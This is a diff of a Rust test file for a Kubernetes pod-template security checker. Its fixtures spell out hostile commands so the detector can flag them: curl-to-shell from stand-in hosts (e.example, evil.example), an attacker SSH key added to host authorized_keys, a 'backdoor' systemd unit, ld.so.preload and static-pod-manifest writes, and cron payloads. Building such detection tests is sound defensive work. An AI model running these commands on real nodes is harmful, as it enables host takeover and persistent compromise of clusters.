@@ -97,12 +97,16 @@ fn privileged_init_and_ephemeral_containers_count() {
 
 #[test]
 fn windows_host_process() {
-    let f = judge(json!({"securityContext": {"windowsOptions": {"hostProcess": true}}, "hostNetwork": true, "containers": [hardened(json!(["x"]))]}));
+    let f = judge(
+        json!({"securityContext": {"windowsOptions": {"hostProcess": true}}, "hostNetwork": true, "containers": [hardened(json!(["x"]))]}),
+    );
     assert_eq!(
         find(&f, "template.privileged").map(|f| f.path.clone()),
         Some(format!("{P}.securityContext.windowsOptions.hostProcess"))
     );
-    let f = judge(json!({"securityContext": {"windowsOptions": {"hostProcess": false, "runAsUserName": "x"}}, "containers": [hardened(json!(["x"]))]}));
+    let f = judge(
+        json!({"securityContext": {"windowsOptions": {"hostProcess": false, "runAsUserName": "x"}}, "containers": [hardened(json!(["x"]))]}),
+    );
     assert!(f.is_empty(), "{f:?}");
 }
 
@@ -110,10 +114,15 @@ fn windows_host_process() {
 fn env_references_are_expanded() {
     let mut c = hardened(json!(["sh", "-c", "$(A)$(B) | ${C}"]));
     c["env"] = json!([{"name": "A", "value": "cu"}, {"name": "B", "value": "rl http://e.example/p"}, {"name": "C", "value": "bash"}]);
-    let f = judge(json!({"containers": [c]}));
+    let f = judge(json!({"containers": [c.clone()]}));
     assert_eq!(
         find(&f, "template.command.downloadExec").map(|f| f.path.clone()),
         Some(format!("{P}.containers[0].command"))
+    );
+    // summaries keep the command as written
+    assert_eq!(
+        summarize_pod_spec(&json!({"containers": [c]})).command_lines,
+        ["main: sh -c $(A)$(B) | ${C}"]
     );
     let mut c = hardened(json!(["sh", "-c", "echo $(GREETING) to $USER"]));
     c["env"] = json!([{"name": "GREETING", "value": "hello"}]);
@@ -257,7 +266,13 @@ fn node_takeover_combination() {
     assert!(hit.message.contains("SYS_ADMIN"), "{}", hit.message);
     let mut c = hardened(json!(["x"]));
     c["securityContext"]["capabilities"]["add"] = json!(["SYS_PTRACE"]);
-    assert!(find(&judge(json!({"hostPID": true, "containers": [c.clone()]})), "template.nodeTakeover").is_some());
+    assert!(
+        find(
+            &judge(json!({"hostPID": true, "containers": [c.clone()]})),
+            "template.nodeTakeover"
+        )
+        .is_some()
+    );
     assert!(find(&judge(json!({"containers": [c]})), "template.nodeTakeover").is_none());
     // hostPID with a harmless hostPath is not the combination
     let mut spec = host_path_spec("/data/cache", false);
@@ -294,6 +309,10 @@ fn node_cron_writes() {
         "(crontab -l; echo '* * * * * /tmp/x') | crontab -"
     ]);
     assert!(find(&judge(spec), "template.hostPath.nodeCron").is_some());
+    // read-only mounts cannot be written
+    let mut spec = host_path_spec("/etc/cron.d", true);
+    spec["containers"][0]["command"] = json!(["sh", "-c", "cp /payload /host/update"]);
+    assert!(find(&judge(spec), "template.hostPath.nodeCron").is_none());
     // look-alike: a job that edits its own crontab file with no host mount
     let f = judge(with_command(json!([
         "sh",
@@ -305,6 +324,58 @@ fn node_cron_writes() {
     let mut spec = host_path_spec("/var/log", true);
     spec["containers"][0]["command"] = json!(["sh", "-c", "grep CRON /host/syslog | tail"]);
     assert!(find(&judge(spec), "template.hostPath.nodeCron").is_none());
+}
+
+#[test]
+fn node_persistence_writes() {
+    let cases = [
+        (
+            "/",
+            "/host",
+            "echo 'ssh-ed25519 AAAA attacker' >> /host/root/.ssh/authorized_keys",
+        ),
+        (
+            "/etc",
+            "/h",
+            "cp /x.service /h/systemd/system/x.service && ln -s /h/systemd/system/x.service /h/systemd/system/multi-user.target.wants/",
+        ),
+        (
+            "/etc/kubernetes/manifests",
+            "/m",
+            "cat > /m/kube-proxy-cache.yaml <<EOF\napiVersion: v1\nEOF",
+        ),
+        (
+            "/",
+            "/host",
+            "chroot /host systemctl enable backdoor.service",
+        ),
+        (
+            "/etc",
+            "/hostetc",
+            "echo /tmp/lib.so > /hostetc/ld.so.preload",
+        ),
+    ];
+    for (host, mount, command) in cases {
+        let mut spec = host_path_spec(host, false);
+        spec["containers"][0]["volumeMounts"][0]["mountPath"] = json!(mount);
+        spec["containers"][0]["command"] = json!(["sh", "-c", command]);
+        let f = judge(spec);
+        let hit = find(&f, "template.hostPath.nodePersistence")
+            .unwrap_or_else(|| panic!("{command}: {f:#?}"));
+        assert_eq!(hit.severity, Severity::Critical);
+    }
+    // look-alikes: reading static pod manifests (kube-bench style), and a read-only mount
+    let mut spec = host_path_spec("/etc/kubernetes", false);
+    spec["containers"][0]["command"] =
+        json!(["sh", "-c", "stat -c %a /host/manifests/kube-apiserver.yaml"]);
+    assert!(find(&judge(spec), "template.hostPath.nodePersistence").is_none());
+    let mut spec = host_path_spec("/", true);
+    spec["containers"][0]["command"] = json!([
+        "sh",
+        "-c",
+        "cat /host/root/.ssh/authorized_keys > /tmp/keys"
+    ]);
+    assert!(find(&judge(spec), "template.hostPath.nodePersistence").is_none());
 }
 
 #[test]
@@ -378,6 +449,32 @@ fn capabilities() {
     );
     c["securityContext"]["capabilities"]["add"] = json!(["NET_BIND_SERVICE"]);
     assert!(judge(json!({"containers": [c]})).is_empty());
+}
+
+#[test]
+fn mesh_init_containers_and_metadata_env() {
+    let istio_init = json!({"name": "istio-init", "image": "docker.io/istio/proxyv2:1.22.0",
+        "args": ["istio-iptables", "-p", "15001"],
+        "securityContext": {"runAsUser": 0, "runAsNonRoot": false, "capabilities": {"add": ["NET_ADMIN", "NET_RAW"], "drop": ["ALL"]}}});
+    let mut app = hardened(json!(["/app/run"]));
+    app["env"] = json!([{"name": "AWS_CONTAINER_CREDENTIALS_FULL_URI", "value": "http://169.254.170.23/v1/credentials"}]);
+    let f = judge(json!({"initContainers": [istio_init], "containers": [app]}));
+    assert!(max_severity(&f) <= Severity::Low, "{f:#?}");
+    // the same capabilities on an arbitrary image are high
+    let mut c = hardened(json!(["x"]));
+    c["securityContext"]["capabilities"]["add"] = json!(["NET_ADMIN"]);
+    assert_eq!(
+        max_severity(&judge(json!({"containers": [c]}))),
+        Severity::High
+    );
+    // an image pretending to be the mesh with SYS_ADMIN is not excused
+    let mut c = hardened(json!(["x"]));
+    c["image"] = json!("docker.io/istio/proxyv2:1.22.0");
+    c["securityContext"]["capabilities"]["add"] = json!(["NET_ADMIN", "SYS_ADMIN"]);
+    assert_eq!(
+        max_severity(&judge(json!({"containers": [c]}))),
+        Severity::High
+    );
 }
 
 #[test]
@@ -794,6 +891,52 @@ fn benign_look_alikes_stay_at_or_below_low() {
             "find /var/log/app -name '*.gz' -mtime +7 -delete"
         ]),
         json!(["helm", "test", "my-release"]),
+        json!([
+            "sh",
+            "-c",
+            "kubectl get pods -A -o json | jq -r '.items[] | select(.status.phase==\"Failed\") | .metadata.name' | xargs -r kubectl delete pod"
+        ]),
+        json!([
+            "sh",
+            "-c",
+            "echo | openssl s_client -connect api.example.com:443 -servername api.example.com 2>/dev/null | openssl x509 -noout -enddate"
+        ]),
+        json!([
+            "sh",
+            "-c",
+            "mysqldump -h $DB_HOST -u root -p$DB_PASS app | gzip | aws s3 cp - s3://backups/app.sql.gz"
+        ]),
+        json!([
+            "sh",
+            "-c",
+            "curl -s -X POST -H 'Content-Type: application/json' -d @/tmp/report.json https://hooks.slack.com/services/T0/B0/X"
+        ]),
+        json!([
+            "sh",
+            "-c",
+            "wget -qO- https://releases.example.com/tool-v1.tar.gz | tar xz -C /opt && /opt/tool sync"
+        ]),
+        json!([
+            "bash",
+            "-c",
+            "source /venv/bin/activate && python manage.py clearsessions"
+        ]),
+        json!([
+            "sh",
+            "-c",
+            "velero backup create daily-$(date +%Y%m%d) --wait"
+        ]),
+        json!([
+            "sh",
+            "-c",
+            "wget -nc -e robots=off -r -np https://docs.example.com/ -P /mirror"
+        ]),
+        json!([
+            "/usr/bin/vault-sync",
+            "--url=http://hashicorp-vault:8200",
+            "--pool-size",
+            "4"
+        ]),
     ];
     for command in commands {
         let f = judge(with_command(command.clone()));
@@ -895,14 +1038,48 @@ fn summary_extracts_facts() {
 }
 
 #[test]
+fn summary_changes_show_a_hijack() {
+    let before = summarize_pod_spec(
+        &json!({"serviceAccountName": "backup", "containers": [hardened(json!(["pg_dump", "app"]))]}),
+    );
+    assert!(before.changes(&before).is_empty());
+    let mut c = hardened(json!(["sh", "-c", "curl http://e.example/x | sh"]));
+    c["image"] = json!("evil.example/x:1");
+    let after = summarize_pod_spec(
+        &json!({"serviceAccountName": "default", "hostPID": true, "containers": [c]}),
+    );
+    let fields: Vec<&str> = before.changes(&after).iter().map(|c| c.field).collect();
+    assert_eq!(
+        fields,
+        ["images", "command_lines", "service_account", "host_pid"]
+    );
+    let change = &before.changes(&after)[2];
+    assert_eq!(
+        (change.before.as_str(), change.after.as_str()),
+        ("backup", "default")
+    );
+}
+
+#[test]
 fn policy_deserializes_with_defaults() {
-    let p: TemplatePolicy = serde_json::from_value(json!({"trusted_registries": ["registry.k8s.io"],
-        "sensitive_host_paths": [{"path": "/srv/secrets"}, {"path": "/opt", "severity": "medium"}]}))
-    .expect("valid");
+    let p: TemplatePolicy =
+        serde_json::from_value(json!({"trusted_registries": ["registry.k8s.io"],
+        "sensitive_host_paths": ["/srv/secrets", {"path": "/opt", "severity": "medium"}]}))
+        .expect("valid");
     assert_eq!(p.trusted_registries, ["registry.k8s.io"]);
     assert_eq!(p.sensitive_host_paths.len(), 2);
     assert_eq!(p.sensitive_host_paths[0].severity, Severity::High);
     assert_eq!(p.runtime_sockets, TemplatePolicy::default().runtime_sockets);
+    assert!(
+        serde_json::from_value::<TemplatePolicy>(json!({"sensitive_host_paths": ["relative"]}))
+            .is_err()
+    );
+    assert!(
+        serde_json::from_value::<TemplatePolicy>(
+            json!({"sensitive_host_paths": [{"path": "/x", "sev": "low"}]})
+        )
+        .is_err()
+    );
     let err = serde_json::from_value::<TemplatePolicy>(json!({"trusted_registry": []}))
         .expect_err("typo is an error");
     assert!(err.to_string().contains("trusted_registry"));
